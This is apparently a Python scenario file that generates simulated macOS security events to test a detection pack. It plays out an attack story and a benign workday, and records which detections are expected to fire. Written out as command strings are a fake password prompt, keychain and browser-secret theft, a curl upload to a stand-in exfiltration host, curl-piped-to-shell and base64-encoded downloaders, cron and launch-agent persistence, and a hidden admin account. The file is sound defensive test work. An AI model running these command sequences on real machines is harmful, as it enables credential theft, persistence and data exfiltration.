"""Scenarios for the detection pack: ``attacks`` (what every detection must catch) and ``workday``
(a benign day full of look-alikes), each with its ground truth.

``attacks`` plays one sub-story per detection family on alice's Mac: an infostealer from a disk
image (Gatekeeper override, fake password prompt, keychain and browser secrets, a zip in /tmp, a curl
upload, a silent screenshot); a ``curl | sh`` backdoor that persists (launch agent, a plist moved in,
cron, ~/.zshrc), backdates and hides its plist, opens a reverse shell and, like the Meterpreter agent
the project's research measured, opens the camera, a display and the keyboard and receives an
upload in a burst of writes, then takes task ports, injects a thread and kills the security agent;
privilege steps (an admin prompt, a setuid binary, a hidden admin account, sudo -S from its launch
agent); Gatekeeper switched off and quarantine stripped, XProtect's catch and failed remediation; and
remote access (SSH and local password guessing, a screen-sharing session, a screen-recording grant
to the implant).

``workday`` is alice's ordinary day: git over SSH, Xcode building and debugging an ad hoc app, Chrome,
Firefox and Safari reading their own cookies and logins, signed updaters registering their own launch
agents, Homebrew, a package install, screenshots she takes, signed apps opening HID and the camera, a
TCC grant to a signed app, sudo at her terminal, ssh running a command without a terminal, and two
acts that fire by design (documented in docs/packs.md): she strips the quarantine of a tool she
trusts, and IT helps her over Screen Sharing.

Ground truth: while a scenario runs it records, per act, which detection of
packaging/packs/osq-esf-detections.conf must report it and with which ``pid`` and ``path`` (the
acting process as the detection names it: the instigator for events daemons report).
:attr:`osq_esf.corpus.Corpus.expected` returns the list; the pack test compares it with the
pack's result lines.  Each record names the event type carrying the signal and the message version
its fields need, so a corpus of older message versions expects only what it can show.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Iterator

from osq_esf.corpus import kernel as k
from osq_esf.corpus import userspace as u
from osq_esf.corpus.scenarios import (
    ALICE, GUI_ASID, HOME, METADATA, SAFARI, TERMINAL, Noise, _pool_picker, hex_id, last_command, shell_env, uuid_of,
)
from osq_esf.corpus.world import (
    FAPPEND, FREAD, FWRITE, GID_STAFF, GID_TTY, O_CREAT, O_TRUNC, PROX_FDTYPE_PIPE, PROX_FDTYPE_SOCKET,
    PROX_FDTYPE_VNODE, Image, Mac, Proc,
)
from osq_esf.events import first_message_version


@dataclass(frozen=True)
class Expected:
    """One result a detection must report: ``detection`` (the pack's query name) about the process
    ``pid``/``path`` (None: the event names no process), for the act ``step``, when the messages
    carrying it have a version from ``since`` to ``until``.  ``benign``: a documented false
    positive of the workday."""

    detection: str
    step: str
    pid: int | None
    path: str | None
    event: str  # the eslogger event type that carries the signal
    since: int  # the message versions that show it this way
    until: int
    benign: bool = False

    def key(self) -> tuple[str, int | None, str | None]:
        return self.detection, self.pid, self.path


TTY = "/dev/ttys003"
DOWNLOADS = f"{HOME}/Downloads"
CHROME_PROFILE = f"{HOME}/Library/Application Support/Google/Chrome/Default"
FIREFOX_PROFILE = f"{HOME}/Library/Application Support/Firefox/Profiles/x7k2m9qd.default-release"
SAFARI_COOKIES = f"{HOME}/Library/Containers/com.apple.Safari/Data/Library/Cookies/Cookies.binarycookies"
KEYCHAIN = f"{HOME}/Library/Keychains/login.keychain-db"
SSH_KEY = f"{HOME}/.ssh/id_ed25519"
LAUNCH_AGENTS = f"{HOME}/Library/LaunchAgents"
XCODE_PRODUCT = (f"{HOME}/Library/Developer/Xcode/DerivedData/Sketchpad-bqkxwzfdhyaxcj/Build/Products/Debug/"
                 "Sketchpad.app/Contents/MacOS/Sketchpad")
DEBUGSERVER = "/Applications/Xcode.app/Contents/SharedFrameworks/LLDB.framework/Versions/A/Resources/debugserver"
OSQUERYD = "/opt/osquery/lib/osquery.app/Contents/MacOS/osqueryd"

# The attacks' names (what a reader of the result lines will see).
STEALER_DMG = f"{DOWNLOADS}/CleanMyMac-Pro.dmg"
STEALER_VOLUME = "/Volumes/CleanMyMac Pro"
STEALER_APP = f"{STEALER_VOLUME}/CleanMyMac Pro.app/Contents/MacOS/CleanMyMac Pro"
STEALER_STAGING = "/tmp/47812"
STEALER_ZIP = "/tmp/out.zip"
STEALER_URL = "https://exfil.example.invalid/joinsystem"
DROPPER_URL = "https://updates.example.invalid/fix.sh"
IMPLANT_DIR = f"{HOME}/Library/.cache/com.apple.syncd"
IMPLANT = f"{IMPLANT_DIR}/syncd"
IMPLANT_LABEL = "com.apple.syncd"
IMPLANT_AGENT = f"{LAUNCH_AGENTS}/{IMPLANT_LABEL}.plist"
STAGED_AGENT = "/private/tmp/com.apple.syncd.helper.plist"
MOVED_AGENT = f"{LAUNCH_AGENTS}/com.apple.syncd.helper.plist"
UPLOADED = f"{IMPLANT_DIR}/tools.tar"
HIDDEN_ADMIN = "_syncd"
ATTACKER = "203.0.113.7"  # TEST-NET-3 (RFC 5737)
HELPDESK = "192.0.2.10"  # TEST-NET-1

SH, ZSH, BASH = ("/bin/sh", "com.apple.sh"), ("/bin/zsh", "com.apple.zsh"), ("/bin/bash", "com.apple.bash")
CURL = ("/usr/bin/curl", "com.apple.curl")
OSASCRIPT = ("/usr/bin/osascript", "com.apple.osascript")
SUDO = ("/usr/bin/sudo", "com.apple.sudo")
SOCKETS = [(0, PROX_FDTYPE_SOCKET, None), (1, PROX_FDTYPE_SOCKET, None), (2, PROX_FDTYPE_SOCKET, None), (5, PROX_FDTYPE_SOCKET, None)]


class Story:
    """The cast every sub-story acts with, and the ground truth it records."""

    def __init__(self, mac: Mac):
        self.mac = mac
        self.rng = mac.rng
        self.step = ""
        self.benign = False
        self.implant: Proc | None = None  # the backdoor's process and image, once it runs
        self.implant_img: Image | None = None
        img = mac.image
        mac.next_pid, mac.next_pidversion = 400, 9000  # a machine up for a while
        self.loginwindow = mac.reporter("loginwindow")
        self.finder = mac.running(img("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder"),
                                  uid=ALICE, gid=GID_STAFF, asid=GUI_ASID, label="com.apple.Finder")
        self.terminal = mac.running(img(TERMINAL, "com.apple.Terminal"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID,
                                    label="application.com.apple.Terminal.3000001.3000008")
        self.zsh = mac.running(img("/bin/zsh", "com.apple.zsh"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID + 3, threads=1)
        self.zsh.parent = self.terminal
        self.zsh.ppid = self.zsh.original_ppid = self.terminal.pid
        self.zsh.resp_token = self.terminal.token()
        self.zsh.tty = mac.file(TTY, mode=0o20620, uid=ALICE, gid=GID_TTY, size=0)
        self.zsh.cwd = mac.dir(HOME)
        self.env = shell_env(TTY)
        self.zsh.env = self.env
        self.zsh.dirty()
        self.safari = mac.running(img(SAFARI, "com.apple.Safari"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID,
                                  label="application.com.apple.Safari.3000002.3000011")
        self.osqueryd = mac.running(img(OSQUERYD, "io.osquery.agent", "3522FA9PXF", "devid"), threads=6)
        self.diskarbitrationd = mac.running(img("/usr/libexec/diskarbitrationd", "com.apple.diskarbitrationd"),
                                            label="com.apple.diskarbitrationd")
        self.noise = Noise(mac)
        mds = mac.running(img(METADATA + "mds_stores", "com.apple.mds_stores"), label="com.apple.metadata.mds_stores")
        logd = mac.running(img("/usr/libexec/logd", "com.apple.logd"), label="com.apple.logd")
        store = f"/private/var/db/Spotlight-V100/BootVolume/Store-V2/{uuid_of(self.rng)}/"
        self.noise.add(mds, 3, _pool_picker([store + n for n in ("0.indexHead", "0.indexIds", "0.indexPostings",
                                                                  "store.db", ".store.db", "live.0.indexHead")], 0.6, 4))
        self.noise.add(logd, 2, _pool_picker([f"/private/var/db/diagnostics/Persist/{n:016X}.tracev3"
                                              for n in range(0x140, 0x146)], 0.7))

    # -- ground truth ----------------------------------------------------------------------

    def expect(self, detection: str, actor: Proc | None, event: str, since: int = 0, until: int = 11) -> None:
        """``detection`` must report ``actor`` (its pid and its image now) for the current step."""
        self.mac.expected.append(Expected(
            detection, self.step, actor.pid if actor else None, actor.image.path if actor else None, event,
            max(since, first_message_version(event) or 1), until, self.benign))

    # -- helpers ---------------------------------------------------------------------------

    def tool(self, parent: Proc, tool: tuple, args: list[str], env=None, *, team: str | None = None,
             kind: str = "platform", fds=None, **kw) -> Proc:
        """``parent`` runs a program (posix_spawn: a fork and an exec)."""
        image = self.mac.image(tool[0], tool[1], team, kind)
        env = env if env is not None else last_command(parent.env or self.env, tool[0])
        return self.mac.spawn(parent, image, args, env, fds=fds, **kw)

    def run(self, parent: Proc, tool: tuple, args: list[str], code: int = 0, **kw) -> Proc:
        """A short-lived command: spawned, then exits."""
        p = self.tool(parent, tool, args, **kw)
        self.mac.exit(p, code)
        return p

    def shell_c(self, parent: Proc, command: str) -> Proc:
        """``do shell script`` / system(3): ``/bin/sh -c command``."""
        return self.tool(parent, SH, ["sh", "-c", command])

    def write_file(self, proc: Proc, path: str, chunks: int = 1, size: int = 4096, create: bool = True) -> None:
        mac = self.mac
        if create:
            mac.create(proc, path, 0o644)
        mac.open(proc, path, FWRITE | O_CREAT | O_TRUNC)
        for _ in range(chunks):
            mac.write(proc, path, size)
        mac.close(proc, path, modified=True)

    def read_file(self, proc: Proc, path: str) -> None:
        self.mac.open(proc, path, FREAD)
        self.mac.close(proc, path)

    def strip_quarantine(self, path: str) -> None:
        """``xattr -d com.apple.quarantine path`` at alice's terminal."""
        xattr = self.tool(self.zsh, ("/usr/bin/xattr", "com.apple.xattr"), ["xattr", "-d", "com.apple.quarantine", path],
                          new_group=True)
        self.mac.deleteextattr(xattr, path, "com.apple.quarantine")
        self.expect("evasion_quarantine_removed", xattr, "deleteextattr")
        self.mac.exit(xattr, 0)

    def pause(self, seconds: float) -> None:
        """Time passes; the noisy daemons keep churning meanwhile."""
        self.noise.run(max(1, int(seconds * 1.5)))
        self.mac.sleep(seconds)


# -- attacks ---------------------------------------------------------------------------------------


def _stealer(s: Story) -> None:
    """A fake cleaner from a disk image: Gatekeeper override, fake prompt, secrets, zip, upload."""
    mac = s.mac
    s.step = "stealer"
    mac.dir(DOWNLOADS)
    mac.create(s.safari, STEALER_DMG, 0o644, new_path=True)
    s.write_file(s.safari, STEALER_DMG, 8, 262_144, create=False)
    mac.setextattr(s.safari, STEALER_DMG, "com.apple.quarantine")
    volume = k.Volume(STEALER_VOLUME, "/dev/disk5s1", "hfs", k.MNT_RDONLY | k.MNT_NOSUID | k.MNT_NODEV
                      | k.MNT_QUARANTINE | k.MNT_LOCAL, owner=ALICE, blocks=3_000, free=200, files=31)
    mac.mount(s.diskarbitrationd, volume, k.DISPOSITION_VIRTUAL)
    s.pause(5)
    app_img = mac.image(STEALER_APP, "com.cleanmymac.pro", None, "adhoc")
    mac.gatekeeper_user_override(STEALER_APP, sha256=hex_id(s.rng, 64), signing=None)
    s.expect("evasion_gatekeeper_override", mac.reporter("syspolicyd"), "gatekeeper_user_override")
    app = mac.launch_job("application.com.cleanmymac.pro.3000021.3000029", app_img, [STEALER_APP], uid=ALICE,
                         gid=GID_STAFF, asid=GUI_ASID)
    s.pause(2)
    # system_profiler, then the fake prompt until the password checks out.
    s.run(app, ("/usr/sbin/system_profiler", "com.apple.system_profiler"), ["system_profiler", "SPHardwareDataType"])
    prompt = s.tool(app, OSASCRIPT, ["osascript", "-e", 'display dialog "macOS needs to update its system settings. '
                                     'Enter your password to continue." with title "System Preferences" default answer '
                                     '"" with icon caution buttons {"Continue"} default button "Continue" giving up after '
                                     '150 with hidden answer'])
    s.expect("credential_fake_password_prompt", prompt, "exec")
    s.pause(6)
    mac.exit(prompt, 0)
    check = s.shell_c(app, "dscl /Local/Default -authonly alice 'correct horse'")
    dscl = s.tool(check, ("/usr/bin/dscl", "com.apple.dscl"), ["dscl", "/Local/Default", "-authonly", "alice",
                                                                "correct horse"])
    s.expect("credential_password_checked_by_script", dscl, "exec")
    mac.authentication("od", True, {"record_type": "Users", "record_name": "alice", "node_name": u.LOCAL_NODE,
                                    "db_path": u.LOCAL_DB}, instigator=dscl)
    mac.exit(dscl, 0)
    mac.exit(check, 0)
    # The keychain's Chrome Safe Storage entry, then the files.
    sec = s.shell_c(app, "security find-generic-password -ga 'Chrome' | awk '{print $2}'")
    security = s.tool(sec, ("/usr/bin/security", "com.apple.security"),
                      ["security", "find-generic-password", "-ga", "Chrome"])
    s.read_file(security, KEYCHAIN)  # through Security.framework: not a copy
    s.expect("credential_keychain_dump_command", security, "exec")
    mac.exit(security, 0)
    mac.exit(sec, 0)
    mac.dir(STEALER_STAGING.replace("/tmp", "/private/tmp"))
    for path in (f"{CHROME_PROFILE}/Login Data", f"{CHROME_PROFILE}/Cookies", f"{CHROME_PROFILE}/Web Data",
                 f"{FIREFOX_PROFILE}/key4.db", f"{FIREFOX_PROFILE}/logins.json", f"{FIREFOX_PROFILE}/cookies.sqlite",
                 SAFARI_COOKIES):
        s.read_file(app, path)
    s.expect("credential_browser_secrets_read", app, "open")
    copy = s.shell_c(app, f"cp ~/Library/Keychains/login.keychain-db {STEALER_STAGING}/")
    cp = s.tool(copy, ("/bin/cp", "com.apple.cp"), ["cp", KEYCHAIN, STEALER_STAGING + "/"])
    s.read_file(cp, KEYCHAIN)
    s.write_file(cp, f"/private{STEALER_STAGING}/login.keychain-db", 4, 65536)
    s.expect("credential_keychain_file_read", cp, "open")
    mac.exit(cp, 0)
    mac.exit(copy, 0)
    shot = s.shell_c(app, f"screencapture -x {STEALER_STAGING}/screen.png")
    screencapture = s.tool(shot, ("/usr/sbin/screencapture", "com.apple.screencapture"),
                           ["screencapture", "-x", f"{STEALER_STAGING}/screen.png"])
    s.write_file(screencapture, f"/private{STEALER_STAGING}/screen.png", 3, 131072)
    s.expect("collection_silent_screenshot", screencapture, "exec")
    mac.exit(screencapture, 0)
    mac.exit(shot, 0)
    s.pause(3)
    z = s.shell_c(app, f"ditto -c -k --sequesterRsrc --keepParent {STEALER_STAGING} {STEALER_ZIP}")
    ditto = s.tool(z, ("/usr/bin/ditto", "com.apple.ditto"),
                   ["ditto", "-c", "-k", "--sequesterRsrc", "--keepParent", STEALER_STAGING, STEALER_ZIP])
    s.write_file(ditto, "/private" + STEALER_ZIP, 6, 65536)
    s.expect("collection_archive_staged_in_tmp", ditto, "exec")
    mac.exit(ditto, 0)
    mac.exit(z, 0)
    up = s.shell_c(app, f"curl -X POST -H 'user: 8fa1' -F 'file=@{STEALER_ZIP}' {STEALER_URL}")
    curl = s.tool(up, CURL, ["curl", "-X", "POST", "-H", "user: 8fa1", "-F", f"file=@{STEALER_ZIP}", STEALER_URL])
    s.read_file(curl, "/private" + STEALER_ZIP)
    s.expect("exfiltration_curl_upload_from_tmp", curl, "exec")
    mac.exit(curl, 0)
    mac.exit(up, 0)
    s.run(app, ("/bin/rm", "com.apple.rm"), ["rm", "-rf", STEALER_STAGING, STEALER_ZIP])
    mac.exit(app, 0)


def _backdoor(s: Story) -> None:
    """curl | sh in Terminal drops an implant in a hidden folder of ~/Library; it persists four ways,
    covers its tracks, calls back with a shell and acts like a Meterpreter agent."""
    mac = s.mac
    s.step = "backdoor_dropper"
    pipe = 0x51C0_4A7D_2E19_8B33
    curl = s.tool(s.zsh, CURL, ["curl", "-fsSL", DROPPER_URL], new_group=True,
                  fds=[(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_PIPE, pipe), (2, PROX_FDTYPE_VNODE, None)])
    sh = s.tool(s.zsh, SH, ["sh"], pgid=curl.pid,
                fds=[(0, PROX_FDTYPE_PIPE, pipe), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)])
    s.expect("execution_curl_piped_to_shell", sh, "exec", since=4)
    mac.exit(curl, 0)
    mac.dir(IMPLANT_DIR)
    dl = s.tool(sh, CURL, ["curl", "-fsSL", "-o", IMPLANT, "https://updates.example.invalid/syncd"])
    s.write_file(dl, IMPLANT, 12, 65536)
    mac.exit(dl, 0)
    chmod = s.tool(sh, ("/bin/chmod", "com.apple.chmod"), ["chmod", "+x", IMPLANT])
    mac.setmode(chmod, IMPLANT, 0o755)
    mac.exit(chmod, 0)
    implant_img = mac.image(IMPLANT, "syncd", None, "adhoc")
    implant = mac.spawn(sh, implant_img, [IMPLANT, "--install"], last_command(s.env, IMPLANT), dyld_exec_path=IMPLANT)
    s.implant, s.implant_img = implant, implant_img
    s.expect("execution_unsigned_from_temp_or_hidden_path", implant, "exec")
    mac.exit(sh, 0)
    s.pause(2)

    s.step = "backdoor_persistence"
    mac.dir(LAUNCH_AGENTS)
    s.write_file(implant, IMPLANT_AGENT, 1, 702)
    s.expect("persistence_launch_plist_created", implant, "create")
    mac.btm_launch_item("add", "file://" + IMPLANT_AGENT, executable_path=IMPLANT, instigator=implant)
    s.expect("persistence_launch_item_by_unsigned_code", implant, "btm_launch_item_add")
    backdated = mac.now - 500 * 86_400 * 10**9
    mac.utimes(implant, IMPLANT_AGENT, backdated, backdated)
    s.expect("evasion_timestomp_launch_item", implant, "utimes")
    mac.setflags(implant, IMPLANT_AGENT, k.UF_HIDDEN)
    s.expect("evasion_hidden_flag_on_persistence", implant, "setflags")
    # A second agent staged in /tmp and moved in by mv, which has exited when BTM reports it.
    s.write_file(implant, STAGED_AGENT, 1, 655)
    mv = s.tool(implant, ("/bin/mv", "com.apple.mv"), ["mv", STAGED_AGENT, LAUNCH_AGENTS + "/"])
    mac.rename(mv, STAGED_AGENT, MOVED_AGENT)
    s.expect("persistence_plist_moved_into_launch_folder", mv, "rename")
    mac.exit(mv, 0)
    mac.btm_launch_item("add", "file://" + MOVED_AGENT, executable_path=IMPLANT, instigator=mv)
    # From message version 8 the instigator's token names mv; before, BTM names no instigator.
    s.expect("persistence_launch_item_by_unsigned_code", mv, "btm_launch_item_add", since=8)
    s.expect("persistence_launch_item_by_unsigned_code", None, "btm_launch_item_add", until=7)
    profile = s.shell_c(implant, f"echo '{IMPLANT} --check >/dev/null 2>&1 &' >> ~/.zshrc")
    mac.open(profile, f"{HOME}/.zshrc", FWRITE | FAPPEND | O_CREAT)
    mac.write(profile, f"{HOME}/.zshrc", 58)
    mac.close(profile, f"{HOME}/.zshrc", modified=True)
    s.expect("persistence_shell_startup_file_written", profile, "open")
    mac.exit(profile, 0)
    cron = s.shell_c(implant, f"(crontab -l; echo '*/30 * * * * {IMPLANT} --check') | crontab -")
    s.run(cron, ("/usr/bin/crontab", "com.apple.crontab"), ["crontab", "-l"], 1)
    crontab = s.tool(cron, ("/usr/bin/crontab", "com.apple.crontab"), ["crontab", "-"])
    s.write_file(crontab, "/private/var/at/tabs/alice", 1, 64)
    s.expect("persistence_cron_job_installed", crontab, "exec")
    mac.exit(crontab, 0)
    mac.exit(cron, 0)
    s.pause(4)

    s.step = "backdoor_stage_two"
    blob = base64.b64encode(f"curl -fsSL https://updates.example.invalid/stage2 -o {IMPLANT_DIR}/s2 && "
                            f"chmod +x {IMPLANT_DIR}/s2".encode()).decode()
    enc = s.tool(implant, BASH, ["bash", "-c", f"echo {blob} | base64 -d | bash"])
    s.expect("execution_encoded_interpreter", enc, "exec")
    s.run(enc, ("/usr/bin/base64", "com.apple.base64"), ["base64", "-d"])
    mac.exit(enc, 0)
    s.pause(3)

    s.step = "backdoor_reverse_shell"
    rsh = s.tool(implant, SH, ["/bin/sh", "-i"], fds=SOCKETS)
    s.expect("execution_reverse_shell", rsh, "exec", since=4)
    s.run(rsh, ("/usr/bin/id", "com.apple.id"), ["id"], fds=SOCKETS)
    s.run(rsh, ("/bin/ls", "com.apple.ls"), ["ls", "-la", f"{HOME}/.ssh"], fds=SOCKETS)
    cat = s.tool(rsh, ("/bin/cat", "com.apple.cat"), ["cat", SSH_KEY], fds=SOCKETS)
    s.read_file(cat, SSH_KEY)
    s.expect("credential_ssh_private_key_read", cat, "open")
    mac.exit(cat, 0)
    rm = s.tool(rsh, ("/bin/rm", "com.apple.rm"), ["rm", "-f", f"{HOME}/.zsh_history"], fds=SOCKETS)
    mac.unlink(rm, f"{HOME}/.zsh_history")
    s.expect("evasion_shell_history_deleted", rm, "unlink")
    mac.exit(rm, 0)
    mac.exit(rsh, 0)
    s.pause(4)

    s.step = "backdoor_post_exploitation"
    # What the research measured on a Meterpreter agent: the camera, the screen, the keyboard...
    mac.iokit_open(implant, "AppleH13CamInUserClient", 0, 0x1000_0b21,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleH13CamIn")
    s.expect("collection_camera_opened_by_unsigned_code", implant, "iokit_open")
    mac.iokit_open(implant, "IOSurfaceRootUserClient", 0, 0x1000_0311, "IOService:/IOResources/IOSurfaceRoot")
    mac.iokit_open(implant, "IOMobileFramebufferUserClient", 0, 0x1000_0a14,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/disp0@A0000000/AppleCLCD2")
    s.expect("collection_screen_capture_by_unsigned_code", implant, "iokit_open")
    mac.iokit_open(implant, "IOHIDLibUserClient", 0, 0x1000_0a3b,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/mtp@D400000/AppleMTPHIDTransport/keyboard")
    s.expect("collection_keyboard_opened_by_unsigned_code", implant, "iokit_open")
    # ...and an upload: the file arrives in a burst of writes.
    s.write_file(implant, UPLOADED, 120, 65536)
    s.expect("transfer_write_burst_by_unsigned_code", implant, "write")
    s.pause(3)
    webcontent = mac.launch_job("com.apple.WebKit.WebContent", mac.image(
        "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.WebContent.xpc/"
        "Contents/MacOS/com.apple.WebKit.WebContent", "com.apple.WebKit.WebContent"), uid=ALICE, gid=GID_STAFF,
        asid=GUI_ASID, responsible=s.safari)
    mac.get_task(implant, webcontent, type=k.GET_TASK_FOR_PID)
    s.expect("injection_task_port_by_unsigned_code", implant, "get_task")
    mac.trace(implant, webcontent)
    s.expect("injection_ptrace_by_unsigned_code", implant, "trace")
    mac.remote_thread_create(implant, webcontent)
    s.expect("injection_remote_thread", implant, "remote_thread_create")
    mac.signal(implant, s.osqueryd, 9)
    s.expect("evasion_security_tool_signalled", implant, "signal")
    mac.exit(s.osqueryd, signal=9)
    s.pause(3)


def _privilege(s: Story) -> None:
    """An admin prompt, a setuid root copy, a hidden admin account; the launch agent's instance
    runs sudo -S with no terminal."""
    mac, implant, implant_img = s.mac, s.implant, s.implant_img
    s.step = "privilege_escalation"
    mac.authorization("petition", implant, rights=("system.privilege.admin",), flags=0x3)
    s.expect("privilege_admin_prompt_by_unsigned_code", implant, "authorization_petition")
    host = mac.launch_job("com.apple.security.authhost", mac.image(
        "/System/Library/Frameworks/Security.framework/Versions/A/MachServices/authorizationhost.bundle/"
        "Contents/MacOS/authorizationhost", "com.apple.authorizationhost"), uid=92, gid=92)
    s.pause(5)
    mac.authentication("od", True, {"record_type": "Users", "record_name": "alice", "node_name": u.LOCAL_NODE,
                                    "db_path": u.LOCAL_DB}, instigator=host)
    mac.authorization("judgement", implant, results=(("system.privilege.admin", u.RULE_USER, True),))
    helper = mac.fork(implant)
    mac.exec(helper, mac.image("/usr/libexec/security_authtrampoline", "com.apple.security_authtrampoline"),
             ["/usr/libexec/security_authtrampoline", IMPLANT, "auth 11"], setuid=0)
    mac.exec(helper, implant_img, [IMPLANT, "--root"], dyld_exec_path=IMPLANT)
    s.expect("execution_unsigned_from_temp_or_hidden_path", helper, "exec")
    root_copy = f"{IMPLANT_DIR}/.r"
    s.write_file(helper, root_copy, 12, 65536)
    mac.setowner(helper, root_copy, 0, 0)
    mac.setmode(helper, root_copy, 0o4755)
    s.expect("privilege_setuid_bit_set", helper, "setmode")
    add = s.tool(helper, ("/usr/sbin/sysadminctl", "com.apple.sysadminctl"),
                 ["sysadminctl", "-addUser", HIDDEN_ADMIN, "-password", "-", "-admin"])
    mac.od("create_user", add, {"user_name": HIDDEN_ADMIN})
    s.expect("account_local_user_created", add, "od_create_user")
    mac.od("modify_password", add, {"account_type": u.OD_ACCOUNT_USER, "account_name": HIDDEN_ADMIN})
    mac.od("group_add", add, {"group_name": "admin", "member": {"member_type": u.OD_MEMBER_USER_NAME,
                                                                 "member_value": HIDDEN_ADMIN}})
    s.expect("account_added_to_admin_group", add, "od_group_add")
    mac.exit(add, 0)
    hide = s.tool(helper, ("/usr/bin/dscl", "com.apple.dscl"),
                  ["dscl", ".", "-create", f"/Users/{HIDDEN_ADMIN}", "IsHidden", "1"])
    mac.od("attribute_set", hide, {"record_type": u.OD_RECORD_USER, "record_name": HIDDEN_ADMIN,
                                   "attribute_name": "IsHidden", "attribute_value_count": 1,
                                   "attribute_values": ["1"]})
    s.expect("account_user_hidden", hide, "od_attribute_set")
    mac.exit(hide, 0)
    mac.exit(helper, 0)
    s.pause(4)
    # launchd starts the agent (no terminal); it feeds alice's password to sudo -S.
    s.step = "privilege_sudo_from_agent"
    agent = mac.launch_job(IMPLANT_LABEL, implant_img, [IMPLANT, "--agent"], uid=ALICE, gid=GID_STAFF,
                           asid=GUI_ASID)
    s.expect("execution_unsigned_from_temp_or_hidden_path", agent, "exec")
    pipe = s.shell_c(agent, "echo 'correct horse' | sudo -S /usr/bin/true")
    sudo = s.tool(pipe, SUDO, ["sudo", "-S", "/usr/bin/true"], setuid=0)
    mac.sudo(sudo, True, command="/usr/bin/true", from_uid=ALICE, from_username="alice")
    s.expect("privilege_sudo_without_terminal", sudo, "sudo")
    s.run(sudo, ("/usr/bin/true", "com.apple.true"), ["/usr/bin/true"])
    mac.exit(sudo, 0)
    mac.exit(pipe, 0)


def _evasion(s: Story) -> None:
    """Gatekeeper off and quarantine stripped at the terminal; XProtect finds the implant and
    cannot remove it."""
    mac, implant = s.mac, s.implant
    s.step = "evasion"
    sudo = s.tool(s.zsh, SUDO, ["sudo", "spctl", "--master-disable"], new_group=True, setuid=0)
    mac.sudo(sudo, True, command="/usr/sbin/spctl --master-disable", from_uid=ALICE, from_username="alice")
    spctl = s.tool(sudo, ("/usr/sbin/spctl", "com.apple.spctl"), ["spctl", "--master-disable"])
    s.expect("evasion_gatekeeper_disabled", spctl, "exec")
    mac.exit(spctl, 0)
    mac.exit(sudo, 0)
    s.strip_quarantine(STEALER_DMG)
    s.pause(6)
    xprotect = mac.reporter("XProtect")
    incident = uuid_of(s.rng)
    mac.xp_malware_detected("MACOS.SYNCD.EXAMPLE", incident, IMPLANT, IMPLANT, "5318")
    s.expect("evasion_xprotect_malware_detected", xprotect, "xp_malware_detected")
    mac.xp_malware_remediated("MACOS.SYNCD.EXAMPLE", incident, action="path_delete", success=False,
                              description="Remediation failed: file in use", path=IMPLANT, process=implant,
                              signature_version="5318")
    s.expect("evasion_xprotect_remediation_failed", xprotect, "xp_malware_remediated")


def _sshd(s: Story) -> Proc:
    sshd = s.mac.launch_job("com.openssh.sshd", s.mac.image("/usr/sbin/sshd", "com.apple.sshd"), ["/usr/sbin/sshd", "-i"])
    return sshd


def _remote(s: Story) -> None:
    """SSH and local password guessing, a Screen Sharing session from the attacker's address, and
    the screen-recording grant it makes for the implant."""
    mac = s.mac
    s.step = "ssh_guessing"
    sshd = None
    for user in ("admin", "alice", "alice", "root"):
        sshd = _sshd(s)
        mac.openssh("login", sshd, ATTACKER, user, None, success=False,
                    result=u.SSH_INVALID_USER if user == "admin" else u.SSH_AUTH_FAIL_PASSWD)
        mac.exit(sshd, 255)
        s.pause(2)
    s.expect("credential_ssh_password_guessing", sshd, "openssh_login")
    s.step = "local_guessing"
    su = None
    for guess in range(3):
        su = s.tool(s.zsh, ("/usr/bin/su", "com.apple.su"), ["su", "-", "ituser"], new_group=True, setuid=0)
        mac.authentication("od", False, {"record_type": "Users", "record_name": "ituser", "node_name": u.LOCAL_NODE,
                                         "db_path": u.LOCAL_DB}, instigator=su)
        mac.su(su, False, from_uid=ALICE, from_username="alice", to_uid=None, to_username=None,
               failure_message="Sorry")
        mac.exit(su, 1)
        s.pause(3)
    s.expect("credential_local_password_guessing", su, "authentication")
    s.step = "screen_sharing"
    screensharingd = mac.reporter("screensharingd")
    mac.screensharing("attach", 257, address=ATTACKER, auth_type="vnc", auth_username=None, session_username="alice",
                      existing_session=True)
    s.expect("remote_screen_sharing_session", screensharingd, "screensharing_attach")
    settings = mac.launch_job("application.com.apple.systempreferences.3000041.3000047",
                              mac.image("/System/Applications/System Settings.app/Contents/MacOS/System Settings",
                                        "com.apple.systempreferences"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID)
    s.pause(8)
    mac.tcc_modify("kTCCServiceScreenCapture", IMPLANT, identity_type=u.TCC_IDENTITY_PATH, update_type=u.TCC_CREATE,
                   right=u.TCC_ALLOWED, reason=u.TCC_USER_SET, instigator=settings, responsible=settings)
    s.expect("privilege_tcc_grant_to_unusual_code", settings, "tcc_modify")
    s.pause(20)
    mac.screensharing("detach", 257, address=ATTACKER)
    mac.exit(settings, 0)


def _play(mac: Mac, events: int, acts) -> Iterator[None]:
    """The acts in order, half a minute apart, then background churn up to ``events`` messages."""
    s = Story(mac)
    s.pause(10)
    yield
    for n, act in enumerate(acts, 1):
        act(s)
        s.pause(30 if n < len(acts) else 20)
        yield
    while mac.emitted < events:
        s.noise.run(min(200, events - mac.emitted))
        yield


def attacks(mac: Mac, events: int) -> Iterator[None]:
    """Every detection family, one sub-story each (see the module docstring)."""
    return _play(mac, events, (_stealer, _backdoor, _privilege, _evasion, _remote))


# -- the workday --------------------------------------------------------------------------------------


def _developer(s: Story) -> None:
    """git over SSH, vim on ~/.zshrc, a Homebrew install, base64 and curl uploads from ~/src, an
    osascript notification, security find-identity, sudo at the terminal, ssh running a command."""
    mac = s.mac
    s.step = "developer"
    git = s.tool(s.zsh, ("/usr/bin/git", "com.apple.git"), ["git", "pull"], new_group=True)
    ssh = s.tool(git, ("/usr/bin/ssh", "com.apple.ssh"), ["ssh", "git@github.example.invalid", "git-upload-pack 'x'"])
    s.read_file(ssh, f"{HOME}/.ssh/config")
    s.read_file(ssh, SSH_KEY)
    mac.exit(ssh, 0)
    mac.exit(git, 0)
